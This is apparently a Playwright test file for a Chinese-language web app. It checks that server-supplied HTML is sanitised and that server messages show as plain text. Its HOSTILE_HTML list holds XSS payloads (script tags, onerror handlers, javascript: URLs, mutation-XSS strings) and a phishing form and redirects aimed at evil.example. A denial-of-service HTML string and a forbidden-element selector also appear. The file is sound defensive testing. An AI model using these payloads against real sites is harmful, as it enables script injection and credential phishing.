import { DEMO } from '#mock/scenarios/personas.ts'
import { expectPath, goTo, logIn, pathOf, reload } from '../journeys/entry.ts'
import { header } from '../journeys/home.ts'
import { HTML_PLACES, type HtmlPlace, prepareHtml } from '../journeys/html-places.ts'
import { CLOSED, expectHarmless, OPEN } from '../support/bad-html.ts'
import { REFUSED } from '../support/servers/mock.ts'
import { withoutPolicy } from '../support/servers/without-policy.ts'
import { expect, test } from '../support/test.ts'
import { expectToast } from '../support/toasts.ts'

test.describe('HTML from the server', { tag: '@production' }, () => {
  const everywhere = Object.entries<HtmlPlace>(HTML_PLACES).map(
    ([name, place]) => [`all at once, ${name}`, place, CLOSED.join('\n')] as const,
  )
  const welcomed = OPEN.map((one) => [one, HTML_PLACES.welcome, one] as const)
  for (const [name, place, html] of [...everywhere, ...welcomed]) {
    test(`is harmless: ${name}`, async ({ app, page }) => {
      await prepareHtml(app, place, `<p>欢迎</p>${html}`)
      await place.open(page)
      const shown = page.locator('.server-html')
      await expect(shown).toContainText('欢迎')
      await expectHarmless(shown)
    })
  }
})

const TABLE = '<table><tr><td colspan="2" rowspan="3">表头</td></tr></table>'
const PICTURE = '<img src="/icon.svg" width="40" height="30" alt="海报">'
const NO_PICTURES =
  '<img src="/api/logoff" alt="调用"><img src="/uploads/../icon.svg" alt="上级"><a href="/icon.svg">文件</a>'

test('tables keep their joined cells, and pictures of the own host their size; no picture is a call', {
  tag: '@both',
}, async ({ app, page }) => {
  await app.open({ scenario: 'visitor', path: '/abouts' })
  await app.mock.site({ settings: { webcontent: TABLE + PICTURE + NO_PICTURES } })
  await reload(page)
  await goTo(page, '/')
  const welcome = page.getByRole('dialog', { name: '温馨提示' })
  const cell = welcome.getByRole('cell', { name: '表头' })
  await expect(cell).toHaveAttribute('colspan', '2')
  await expect(cell).toHaveAttribute('rowspan', '3')
  const picture = welcome.getByRole('img', { name: '海报' })
  await expect(picture).toHaveAttribute('src', '/icon.svg')
  await expect(picture).toHaveAttribute('width', '40')
  await expect(picture).toHaveAttribute('height', '30')
  for (const name of ['调用', '上级'])
    await expect(welcome.getByRole('img', { name })).not.toHaveAttribute('src')
  await expect(welcome.getByText('文件')).not.toHaveAttribute('href')
})

const WIDE =
  '<table><tr><td rowspan="-900">少</td><td colspan="400">多</td><td colspan="400">太多</td></tr></table>'

test('cells that join more than 500 columns and rows in all are not joined, whatever others say', async ({
  app,
  page,
}) => {
  await app.open({ scenario: 'visitor', path: '/abouts' })
  await app.mock.site({ settings: { webcontent: WIDE } })
  await reload(page)
  await goTo(page, '/')
  const welcome = page.getByRole('dialog', { name: '温馨提示' })
  await expect(welcome.getByRole('cell', { name: '多', exact: true })).toHaveAttribute('colspan', '400')
  await expect(welcome.getByRole('cell', { name: '太多' })).not.toHaveAttribute('colspan')
})

/** Each block opens all of them again: 19 kB become a million elements. */
const HEAVY = Array.from({ length: 900 }, (_, at) => `<b a${at}>`).join('') + '<p>x'.repeat(2_000)

test('HTML that would hold the page is not shown, and the page works on', { tag: '@both' }, async ({
  app,
  page,
}) => {
  await app.open({ scenario: 'member-with-money', path: '/kefu' })
  await app.mock.faults({
    add: [
      {
        endpoint: '/api/activitydeatil',
        kind: 'patch',
        fields: { 'data.content': HEAVY, 'data.memo': '<p>说明</p>' },
      },
    ],
  })
  await goTo(page, '/activityInfo?id=3')
  await expect(page.getByText('内容过长，无法在此显示，请联系在线客服查看。')).toBeVisible()
  await expect(page.getByText('说明', { exact: true })).toBeVisible()
  await page.getByRole('link', { name: '前往登录' }).click()
  await expectPath(page, '/login?redirect=%2FactivityInfo%3Fid%3D3')
})

const message = '<img src=x onerror=__pwn=1><script>__pwn=1</script>余额&amp;不足'
const refusal = { kind: 'refuse', code: REFUSED, message } as const

test('messages of the server are shown literally', { tag: '@both' }, async ({ app, page }) => {
  await app.open({ scenario: 'member-with-money', path: '/login' })
  await app.mock.faults({ add: [{ endpoint: '/api/login', ...refusal, times: 1 }] })
  await logIn(page, DEMO)
  await expectToast(page, message)
  await logIn(page, DEMO)
  await expect(header(page)).toBeVisible()
  await app.mock.faults({ add: [{ endpoint: '/api/transall', ...refusal, times: 1 }] })
  // Home would show its welcome first; the header of another route has the button too.
  await goTo(page, '/kefu')
  await header(page).getByRole('button', { name: '一键回收' }).click()
  await expectToast(page, message)
  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
})

test('names, notices and titles of the server are shown as text', { tag: '@both' }, async ({ app, page }) => {
  await app.open({ scenario: 'visitor', path: '/kefu' })
  const text = '<img src=x onerror=__pwn=1>云舟'
  await app.mock.site({ settings: { title: text, welcomeModal: false } })
  await reload(page)
  await expect(header(page).getByText(text)).toBeVisible()
  await app.mock.faults({
    add: [
      { endpoint: '/api/homenotice', kind: 'patch', fields: { data: [text, '<script>__pwn=1</script>'] } },
    ],
  })
  await goTo(page, '/')
  await page.getByRole('button', { name: '查看公告' }).click()
  const dialog = page.getByRole('dialog', { name: '公告' })
  await expect(dialog.getByText(text)).toBeVisible()
  await expect(dialog.getByText('<script>__pwn=1</script>')).toBeVisible()
  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
})

/**
 * Scripts, handlers, forms for phishing, covers, clobbering, trackers, mutation
 * (docs/faults.md#hostile-html).
 */
const HOSTILE_HTML = [
  '<p>好好的字</p>',
  '<script>__pwn=1</script>',
  '<img src=x onerror=__pwn=1>',
  '<svg onload=__pwn=1><animate onbegin=__pwn=1 attributeName=x dur=1s></svg>',
  '<a href="javascript:__pwn=1">a</a>',
  '<a href="data:text/html,<script>__pwn=1</script>">b</a>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999">盖住</div>',
  '<div id="root" name="body">x</div>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=__pwn=1>"></noscript>',
  '<video><source onerror=__pwn=1></video><audio src=x onerror=__pwn=1>',
  '<details open ontoggle=__pwn=1>d</details><marquee onstart=__pwn=1>m</marquee>',
  '<template><img src=x onerror=__pwn=1></template><object data="javascript:__pwn=1"></object>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
].join('\n')

const FORBIDDEN =
  'form,input,button,textarea,select,iframe,script,style,link,meta,base,object,embed,svg,math,video,audio,[id],[name],[style]'

test.describe('the sanitiser alone, without the content security policy', () => {
  test('the welcome shows the text of its HTML and runs none of it', async ({ app, page }) => {
    // Chromium reports handlers as violations even in HTML that is only parsed, in an inert document.
    await withoutPolicy(app)
    await app.open({ scenario: 'visitor', path: '/abouts' })
    await app.mock.site({ settings: { webcontent: HOSTILE_HTML } })
    await reload(page)
    await goTo(page, '/')
    const welcome = page.getByRole('dialog', { name: '温馨提示' })
    await expect(welcome.getByText('好好的字')).toBeVisible()
    const html = welcome.locator('.server-html')
    await expect(html.locator(FORBIDDEN)).toHaveCount(0)
    const dangerous = await html.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter(({ name, value }) => name.startsWith('on') || /^\s*(javascript|data):/i.test(value))
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    )
    expect(dangerous).toEqual([])
    for (const link of await html.getByRole('link').all()) {
      await expect(link).toHaveAttribute('rel', /noopener/)
    }
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    expect(pathOf(page)).toBe('/')
  })
})
